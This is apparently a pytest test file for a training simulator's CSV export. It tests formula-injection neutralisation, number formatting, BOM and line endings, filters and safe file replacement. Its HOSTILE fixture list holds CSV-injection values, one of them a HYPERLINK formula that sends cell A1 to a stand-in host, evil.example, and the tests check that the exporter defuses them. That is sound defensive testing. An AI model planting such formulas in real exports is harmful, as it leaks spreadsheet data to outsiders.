"""CSV export: spreadsheet safety, numbers, BOM, filters and the command's options."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from simulator.cli import cli
from simulator.export.csv_export import (
    ATTEMPT_COLUMNS,
    CHOICE_COLUMNS,
    duration_seconds,
    sins_text,
)
from simulator.export.output import text_output
from simulator.export.safety import cell, neutralise
from simulator.results import sql as sql_mod
from simulator.store import Store

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
]


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """One finished attempt per hostile name, each with a hostile reply (negative points).

    Names holding a tab or CR are refused at input now; a database written
    before that can still hold them, and the CSV must still neutralise them.
    """
    monkeypatch.setattr(sql_mod, "check_name", lambda value, what: None)  # an older talkdown
    path = tmp_path / "hostile.db"
    with Store(path) as store:
        for i, name in enumerate(HOSTILE):
            start = T0 + timedelta(minutes=i)
            key = store.start_attempt(
                name=name, cohort=name, scenario_id="late-parcel", scenario_title=name,
                content_hash="a" * 64, mode="practice", start_node="opening", started_at=start,
                uuid=f"00000000-0000-4000-8000-{i:012d}", app_version="0.1.0",
            )  # fmt: skip
            store.record_choice(
                key, seq=1, node="opening", choice=1, say=name, empathy=-2, assertiveness=-1,
                tags=["robotism"], mood_before=50, mood_after=60, seconds=10, latency_ms=1.5,
                next_node=None, recorded_at=start + timedelta(seconds=5),
            )  # fmt: skip
            store.finish_attempt(
                key, ending="lost", ending_node=None, empathy=0.0, assertiveness=0.0, speed=0.0,
                overall=0.0, passed=False, finished_at=start + timedelta(seconds=6),
            )  # fmt: skip
    return path


def export(db: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["export", "--db", str(db), *args])
    return result.exit_code, result.stdout if result.exit_code == 0 else result.output


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------- safety


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_formula_starts_and_keeps_the_text(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Ann", "1+1", "a=b", "", "'quoted", " =space first"])
def test_neutralise_leaves_harmless_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_cell_never_touches_numbers() -> None:
    assert cell(-2) == -2
    assert cell(-0.5) == -0.5
    assert cell(None) is None
    assert cell("-2") == "'-2"


def test_attempt_csv_neutralises_every_hostile_text_cell(hostile_db: Path) -> None:
    code, text = export(hostile_db)
    assert code == 0
    got = rows(text)
    assert [r["trainee"] for r in got] == ["'" + name for name in HOSTILE]
    assert [r["cohort"] for r in got] == ["'" + name for name in HOSTILE]
    assert [r["scenario_title"] for r in got] == ["'" + name for name in HOSTILE]
    # Nothing a spreadsheet would evaluate is left at the start of any cell.
    for row in got:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_choices_csv_neutralises_text_but_keeps_negative_numbers_numeric(
    hostile_db: Path,
) -> None:
    code, text = export(hostile_db, "--choices")
    assert code == 0
    got = rows(text)
    assert [r["say"] for r in got] == ["'" + name for name in HOSTILE]
    assert {r["empathy"] for r in got} == {"-2"}  # a number, not "'-2"
    assert {r["assertiveness"] for r in got} == {"-1"}
    # The '-2' *name* is text and is neutralised; the -2 *points* are not.
    assert got[2]["trainee"] == "'-2" and got[2]["empathy"] == "-2"


# --------------------------------------------------------------------------- content


def test_attempt_columns_and_values(sample_db: Path) -> None:
    code, text = export(sample_db)
    assert code == 0
    assert text.splitlines()[0] == ",".join(ATTEMPT_COLUMNS)
    got = {r["uuid"][-1]: r for r in rows(text)}
    first = got["1"]
    assert first["trainee"] == "Ann Lee"
    # a date and time any spreadsheet reads (UTC, to the second); the duration keeps the .5 s
    assert first["started"] == "2024-03-01 09:00:00"
    assert first["finished"] == "2024-03-01 09:00:29"  # stored 09:00:29.500000Z
    assert first["duration"] == "29.5"  # wall clock, seconds
    # scores rounded to 2 decimals: the sample stores 95.83333333333333 and 4.166666666666667
    assert first["overall"] == "95.83" and got["2"]["overall"] == "4.17"
    assert got["3"]["overall"] == "93.33"
    assert first["call_seconds"] == "75"  # simulated
    assert first["passed"] == "true"
    assert got["2"]["sins"] == "brush-off; robotism×2; runaround"
    assert got["2"]["passed"] == "false"
    assert got["2"]["critical"] == "told the customer the parcel was delivered; tracking says not"
    assert got["1"]["critical"] == ""
    assert got["1"]["outcome"] == "Shipping refunded; the gift arrives tomorrow."
    assert got["2"]["outcome"] == ""  # a walkout has no outcome
    assert got["4"]["empathy"] == ""  # not assessed
    assert got["5"]["status"] == "in_progress"
    assert got["5"]["finished"] == got["5"]["duration"] == got["5"]["passed"] == ""
    assert got["5"]["trainee"] == "Zoë Ng"


def test_a_batch_runs_duration_is_not_measured(tmp_path: Path) -> None:
    """``run --record`` replays replies in a blink: its wall clock is not time on task."""
    db = tmp_path / "batch.db"
    start = datetime(2024, 3, 1, 9, tzinfo=UTC)
    with Store(db) as store:
        for mode in ("batch", "practice"):
            key = store.start_attempt(
                name=f"{mode} trainee", cohort="c", scenario_id="s", scenario_title="t",
                content_hash="a" * 64, mode=mode, start_node="n", started_at=start,
            )  # fmt: skip
            store.finish_attempt(
                key, ending="resolved", ending_node="end", empathy=50.0, assertiveness=50.0,
                speed=50.0, overall=50.0, passed=False,
                finished_at=start + timedelta(milliseconds=3),
            )  # fmt: skip
    code, text = export(db)
    assert code == 0
    got = {r["mode"]: r for r in rows(text)}
    assert got["batch"]["duration"] == ""  # not measured, rather than "0.003"
    assert got["practice"]["duration"] == "0.003"
    result = CliRunner().invoke(cli, ["export", "--format", "xapi", "--db", str(db)])
    statements = json.loads(result.stdout)
    durations = {
        s["actor"]["account"]["name"]: "duration" in s["result"]
        for s in statements
        if s["verb"]["id"].endswith("/completed")
    }
    assert durations == {"c/batch trainee": False, "c/practice trainee": True}


def test_choice_rows_one_per_reply_in_order(sample_db: Path) -> None:
    code, text = export(sample_db, "--choices")
    assert code == 0
    assert text.splitlines()[0] == ",".join(CHOICE_COLUMNS)
    got = rows(text)
    assert len(got) == 16
    attempt2 = [r for r in got if r["attempt_uuid"].endswith("2")]
    assert [r["seq"] for r in attempt2] == ["1", "2", "3"]
    assert attempt2[1]["say"] == "Please hold.\nYour call is important to us."
    assert attempt2[1]["tags"] == "robotism; runaround"
    silence = [r for r in got if r["choice"] == ""]
    assert len(silence) == 1 and silence[0]["tags"] == "apathy"
    # the authored number stays in 'choice'; 'shown' is where it sat on screen
    attempt3 = [r for r in got if r["attempt_uuid"].endswith("3")]
    assert [(r["choice"], r["shown"]) for r in attempt3] == [("1", "3"), ("1", "1")]
    assert [r["critical"] for r in attempt2] == [
        "",
        "",
        "told the customer the parcel was delivered; tracking says not",
    ]


def test_bom_only_when_asked(sample_db: Path, tmp_path: Path) -> None:
    plain, bom = tmp_path / "plain.csv", tmp_path / "bom.csv"
    assert export(sample_db, "-o", str(plain))[0] == 0
    assert export(sample_db, "--bom", "-o", str(bom))[0] == 0
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert bom.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    assert "Zoë".encode() in plain.read_bytes()  # UTF-8


def test_lines_end_crlf_and_quotes_are_doubled(sample_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    assert export(sample_db, "--choices", "-o", str(out))[0] == 0
    data = out.read_bytes()
    assert data.count(b"\r\n") == 17  # header + 16 replies; the embedded \n is quoted
    assert b'""express""' in data


def test_sins_text_counts_alphabetically() -> None:
    # The attempt's stored summary: {sin: count}; one sin is named bare, more get ×n.
    assert sins_text("{}") == ""
    assert sins_text('{"robotism":2,"runaround":1}') == "robotism×2; runaround"


def test_duration_seconds() -> None:
    assert duration_seconds("2024-03-01T09:00:00.000000Z", None) is None
    assert duration_seconds("2024-03-01T09:00:00.000000Z", "2024-03-01T10:01:01.250000Z") == 3661.25


# --------------------------------------------------------------------------- filters


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--cohort", "2024-autumn"], {"5", "7"}),
        (["--trainee", "Bo Chen"], {"2", "4", "6"}),
        (["--scenario", "refund-policy"], {"4", "5"}),
        (["--since", "2024-03-03"], {"5", "6", "7"}),
        (["--since", "2024-03-02T09:30"], {"4", "5", "6", "7"}),
        (["--since", "2024-03-02T11:30+02:00"], {"4", "5", "6", "7"}),  # = 09:30 UTC
        (["--since", "2024-03-02T10:00:00Z"], {"4", "5", "6", "7"}),  # inclusive
        (["--cohort", "2024-spring", "--scenario", "late-parcel"], {"1", "2", "3", "6"}),
        (["--cohort", "nobody"], set()),
    ],
)
def test_filters(sample_db: Path, args: list[str], expected: set[str]) -> None:
    code, text = export(sample_db, *args)
    assert code == 0
    assert {r["uuid"][-1] for r in rows(text)} == expected


def test_bad_since_is_a_usage_error(sample_db: Path) -> None:
    code, output = export(sample_db, "--since", "last tuesday")
    assert code == 2
    assert "not a date or time" in output


@pytest.mark.parametrize(
    "args",
    [["--format", "jsonl", "--choices"], ["--format", "xapi", "--bom"], ["--lrs", "http://x"]],
)
def test_options_that_do_not_fit_the_format_are_refused(sample_db: Path, args: list[str]) -> None:
    assert export(sample_db, *args)[0] == 2


def test_missing_database_is_a_clear_error(tmp_path: Path) -> None:
    code, output = export(tmp_path / "nope.db")
    assert code == 1
    assert "no results database" in output
    assert not (tmp_path / "nope.db").exists()  # export never creates one


def test_failed_export_leaves_no_partial_file(sample_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("previous export\n")
    result = CliRunner().invoke(
        cli, ["export", "--db", str(sample_db), "-o", str(target), "--format", "xapi",
              "--iri-base", "ftp://nope/"],
    )  # fmt: skip
    assert result.exit_code != 0
    assert target.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.csv")] == []


def test_file_output_is_replaced_only_when_complete(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("previous export\n")
    with pytest.raises(RuntimeError), text_output(target, stdout=io.BytesIO()) as out:
        out.write("half an export")
        raise RuntimeError("disk full, say")
    assert target.read_text() == "previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temp file left
    with text_output(target, stdout=io.BytesIO(), bom=True) as out:
        out.write("new")
    assert target.read_bytes() == b"\xef\xbb\xbfnew"


def test_results_commands_do_not_load_textual() -> None:
    """Only `talkdown trainer` may pay for Textual, and only when it runs."""
    import subprocess
    import sys

    code = (
        "import sys\n"
        "import simulator.commands.export, simulator.commands.import_\n"
        "import simulator.commands.report, simulator.commands.trainer\n"
        "import simulator.export.html_report, simulator.export.lrs, simulator.export.importer\n"
        "assert not [m for m in sys.modules if m.split('.')[0] == 'textual'], 'textual loaded'\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
